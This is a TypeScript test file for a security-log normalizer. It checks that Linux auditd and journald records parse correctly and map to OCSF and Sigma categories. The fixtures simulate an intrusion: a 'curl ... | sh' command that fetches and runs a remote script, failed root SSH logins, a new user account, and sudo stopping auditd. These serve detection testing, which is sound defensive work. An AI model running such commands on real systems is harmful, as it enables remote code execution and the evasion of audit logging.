import { linux, parseAuditdLine, auditTimestamp } from '../../../shared/normalize/sources/linux';
import { unwrapText } from '../../../shared/normalize/envelopes';
import { normalizeBatch, normalizeRecord, recognize } from '../../../shared/normalize/registry';
import { expectValid, fixtureText } from './helpers';

describe('linux auditd', () => {
  const { records, failures: pf } = unwrapText(fixtureText('linux', 'audit.log'));
  const { events, failures } = normalizeBatch(records);

  test('every audit.log line is a record; all map and validate', () => {
    expect(pf).toEqual([]);
    expect(records).toHaveLength(7);
    expect(failures).toEqual([]);
    expectValid(events);
    expect(recognize(records[0])?.id).toBe('linux');
    expect(new Set(events.map((e) => e.uid)).size).toBe(7);
  });

  test("uid: auditd's own identity of the record (host, time and serial, type, PATH item)", () => {
    expect(events.map((e) => e.uid)).toEqual([
      'auditd::1772470000.412:30215:SYSCALL',
      'auditd::1772470000.412:30215:EXECVE',
      'auditd::1772470000.412:30215:CWD',
      'auditd::1772470000.412:30215:PATH:0',
      'auditd::1772470000.412:30215:PROCTITLE',
      'auditd::1772470100.003:30240:USER_LOGIN',
      'auditd::1772470200.551:30301:ADD_USER',
    ]);
    const path = records[3];
    const uidOf = (rec: Record<string, unknown>) => {
      const r = normalizeRecord(rec);
      if (!r.ok) throw new Error(r.reason);
      return r.events[0].uid;
    };
    // The same record from a shipper that wrote its keys in another order, or as JSON numbers: the same uid.
    expect(uidOf(Object.fromEntries(Object.entries(path).reverse()))).toBe(uidOf(path));
    expect(uidOf({ ...path, item: 0 })).toBe(uidOf(path));
    // Another PATH item of the event, another host, the same serial after a reboot (another time): other uids.
    expect(uidOf({ ...path, item: '1', name: '/lib64/ld-linux-x86-64.so.2' })).toBe('auditd::1772470000.412:30215:PATH:1');
    expect(uidOf({ ...path, node: 'web-02' })).toBe('auditd:web-02:1772470000.412:30215:PATH:0');
    expect(uidOf({ ...path, msg: 'audit(1772999000.020:30215)' })).toBe('auditd::1772999000.020:30215:PATH:0');
  });

  test('parsing: quotes removed, hex decoded, enriched fields kept, user msg flattened', () => {
    const [syscall, execve, , , proctitle, login] = records;
    expect(syscall).toMatchObject({ type: 'SYSCALL', msg: 'audit(1772470000.412:30215)', syscall: '59', exe: '/usr/bin/bash', comm: 'bash', key: 'exec_log', auid: '1000', SYSCALL: 'execve', AUID: 'deploy', UID: 'root' });
    expect(execve).toEqual({ type: 'EXECVE', msg: 'audit(1772470000.412:30215)', argc: '3', a0: 'bash', a1: '-c', a2: 'curl -s http://198.51.100.80/x.sh | sh' });
    expect(proctitle.proctitle).toBe('bash -c curl -s http://198.51.100.80/x.sh | sh');
    expect(login).toMatchObject({ type: 'USER_LOGIN', pid: '2301', op: 'login', acct: 'root', exe: '/usr/sbin/sshd', addr: '192.0.2.99', terminal: 'ssh', res: 'failed' });
    // Numeric-looking hex in SYSCALL argument registers is left alone.
    expect(syscall.a0).toBe('55d4c1e0a2b0');
    expect(auditTimestamp('audit(1772470000.412:30215)')).toEqual({ time: 1772470000412, serial: '30215' });
    expect(parseAuditdLine('not audit')).toBeUndefined();
    expect(parseAuditdLine('type=SYSCALL msg=nope')).toBeUndefined();
  });

  test('execve → Process Activity with process_creation logsource', () => {
    const [syscall, execve] = events;
    expect(syscall.logsource).toEqual({ product: 'linux', service: 'auditd', category: 'process_creation' });
    expect(syscall.time).toBe(1772470000412);
    expect(syscall.ocsf).toMatchObject({ class_uid: 1007, activity_id: 1, status_id: 1, process: { pid: 2240, name: 'bash', file: { path: '/usr/bin/bash' }, parent_process: { pid: 2211 } }, actor: { user: { uid: '1000', name: 'deploy' } }, unmapped: { key: 'exec_log' } });
    expect(execve.ocsf).toMatchObject({ class_uid: 1007, process: { cmd_line: 'bash -c curl -s http://198.51.100.80/x.sh | sh', name: 'bash' } });
    expect(events[2].logsource).toEqual({ product: 'linux', service: 'auditd' });
    expect(events[2].ocsf.class_uid).toBe(0);
  });

  test('USER_LOGIN failure → Authentication; ADD_USER → Account Change', () => {
    expect(events[5].ocsf).toMatchObject({ class_uid: 3002, activity_id: 1, status_id: 2, user: { name: 'root' }, src_endpoint: { ip: '192.0.2.99' }, service: { name: 'sshd' }, is_remote: true });
    expect(events[6].ocsf).toMatchObject({ class_uid: 3001, activity_id: 1, user: { uid: '1002' }, actor: { user: { uid: '1000' } } });
  });

  test('a line read along a learned key path (a record constructor per path) gives what reading it pair by pair gives', () => {
    const line = 'type=SYSCALL msg=audit(1772470000.412:30215): arch=c000003e syscall=59 comm="bash" exe=2F7573722F62696E2F62617368 key=(null)\x1dAUID="deploy"';
    const expected = { type: 'SYSCALL', msg: 'audit(1772470000.412:30215)', arch: 'c000003e', syscall: '59', comm: 'bash', exe: '/usr/bin/bash', key: '(null)', AUID: 'deploy' };
    // The first line learns the path, the second makes its constructor, the later ones use it.
    for (let k = 0; k < 4; k++) {
      const rec = parseAuditdLine(line);
      expect(rec).toEqual(expected);
      expect(Object.keys(rec ?? {})).toEqual(Object.keys(expected));
    }
    // Another value for a key of the path, and a line that leaves the path midway: the keys in line order.
    expect(parseAuditdLine(line.replace('syscall=59', 'syscall=42'))).toMatchObject({ syscall: '42', comm: 'bash' });
    const off = parseAuditdLine(line.replace('comm=', 'pid=7 comm='));
    expect(Object.keys(off ?? {})).toEqual(['type', 'msg', 'arch', 'syscall', 'pid', 'comm', 'exe', 'key', 'AUID']);
    // A line that stops short of a known path: only its own keys.
    expect(parseAuditdLine('type=SYSCALL msg=audit(1772470000.412:30215): arch=c000003e syscall=59')).toEqual({ type: 'SYSCALL', msg: 'audit(1772470000.412:30215)', arch: 'c000003e', syscall: '59' });
  });

  test('keys a record already has, keys on Object.prototype and number keys, on a learned path or not', () => {
    const lines = [
      // A repeated key keeps its first value; type and msg are never overwritten; constructor and __proto__ are skipped.
      "type=USER_AUTH msg=audit(1772470000.412:1): pid=1 pid=2 type=X msg=y constructor=c __proto__=p msg='op=PAM acct=\"root\" pid=3 res=success'",
      // Number keys come first in an object's key order, whatever the line's order.
      'type=USER_AUTH msg=audit(1772470000.412:2): pid=1 12=a 3=b res=failed',
    ];
    const expected = [
      { type: 'USER_AUTH', msg: 'audit(1772470000.412:1)', pid: '1', op: 'PAM', acct: 'root', res: 'success' },
      { type: 'USER_AUTH', msg: 'audit(1772470000.412:2)', pid: '1', 3: 'b', 12: 'a', res: 'failed' },
    ];
    for (let k = 0; k < 3; k++) {
      lines.forEach((l, i) => {
        const rec = parseAuditdLine(l);
        expect(rec).toEqual(expected[i]);
        expect(Object.keys(rec ?? {})).toEqual(Object.keys(expected[i]));
        expect(Object.getPrototypeOf(rec)).toBe(Object.prototype);
      });
    }
  });

  test('lines with endless distinct keys (past the key tree bounds) are still read in full', () => {
    for (let k = 0; k < 6000; k++) {
      const rec = parseAuditdLine(`type=T${k % 50} msg=audit(1772470000.412:${k}): x=1 k${k}=v${k} name=2F746D70 y="2"`);
      expect(rec).toEqual({ type: `T${k % 50}`, msg: `audit(1772470000.412:${k})`, x: '1', [`k${k}`]: `v${k}`, name: '/tmp', y: '2' });
    }
  });

  test("records one after another with the same or another msg each get their own msg's time, serial and uid", () => {
    const at = (msg: string, type = 'CWD') => normalizeRecord({ type, msg, cwd: '/' });
    const pick = (r: ReturnType<typeof normalizeRecord>) => (r.ok ? [r.events[0].time, r.events[0].uid, r.events[0].ocsf.metadata.uid] : r.reason);
    expect(pick(at('audit(1772470000.412:1)'))).toEqual([1772470000412, 'auditd::1772470000.412:1:CWD', '1']);
    expect(pick(at('audit(1772470000.412:1)', 'PATH'))).toEqual([1772470000412, 'auditd::1772470000.412:1:PATH', '1']);
    expect(pick(at('audit(1772470000.5:22)'))).toEqual([1772470000500, 'auditd::1772470000.5:22:CWD', '22']);
    expect(pick(at('audit(1772470000.5:22x)'))).toBe('msg: not an audit timestamp: "audit(1772470000.5:22x)"');
    expect(pick(at('audit(1772470000.5:22)'))).toEqual([1772470000500, 'auditd::1772470000.5:22:CWD', '22']);
  });

  test('auditd records as JSON with a wrong type are rejected', () => {
    expect(normalizeRecord({ ...records[0], pid: { x: 1 } })).toMatchObject({ ok: false, source: 'linux', reason: 'pid: expected a string or number' });
    expect(normalizeRecord({ ...records[0], msg: 'audit(garbage)' })).toMatchObject({ ok: false, reason: expect.stringMatching(/^msg: not an audit timestamp/) });
  });
});

describe('linux journald', () => {
  const { records } = unwrapText(fixtureText('linux', 'journal.ndjson'));
  const { events, failures } = normalizeBatch(records);

  test('entries map and validate', () => {
    expect(failures).toEqual([]);
    expect(events).toHaveLength(5);
    expectValid(events);
    expect(events[0].raw).toBe(records[0]);
    expect(events[0].uid).toBe(records[0].__CURSOR);
    expect(events[0].time).toBe(1772470300123);
  });

  test('sshd accepted / failed → Authentication; sudo → Process Activity; services per Sigma', () => {
    const [acc, fail, sudo, pam, kern] = events;
    expect(acc.logsource).toEqual({ product: 'linux', service: 'sshd' });
    expect(acc.ocsf).toMatchObject({ class_uid: 3002, status_id: 1, user: { name: 'deploy' }, src_endpoint: { ip: '198.51.100.23', port: 50522 }, auth_protocol: 'publickey', device: { hostname: 'web-01' } });
    expect(fail.ocsf).toMatchObject({ class_uid: 3002, status_id: 2, user: { name: 'oracle' }, src_endpoint: { ip: '192.0.2.99', port: 41822 } });
    expect(sudo.logsource).toEqual({ product: 'linux', service: 'sudo' });
    expect(sudo.ocsf).toMatchObject({ class_uid: 1007, process: { cmd_line: '/usr/bin/systemctl stop auditd', name: 'systemctl', user: { name: 'root' } }, actor: { user: { name: 'deploy' } } });
    expect(pam.ocsf).toMatchObject({ class_uid: 3002, activity_id: 1, user: { name: 'root' } });
    expect(kern.logsource).toEqual({ product: 'linux', service: 'syslog' });
    expect(kern.ocsf).toMatchObject({ class_uid: 0, severity_id: 4, message: expect.stringContaining('Out of memory') });
  });

  test('bad input', () => {
    expect(normalizeRecord({ ...records[0], __REALTIME_TIMESTAMP: 'yesterday' })).toMatchObject({ ok: false, source: 'linux', reason: expect.stringMatching(/^__REALTIME_TIMESTAMP/) });
    expect(normalizeRecord({ ...records[0], MESSAGE: { a: 1 } })).toMatchObject({ ok: false, reason: 'MESSAGE: expected a string or byte array' });
    // journald exports non-UTF-8 messages as byte arrays.
    const [e] = linux.normalize({ ...records[4], MESSAGE: [104, 105] });
    expect(e.ocsf.message).toBe('hi');
  });
});
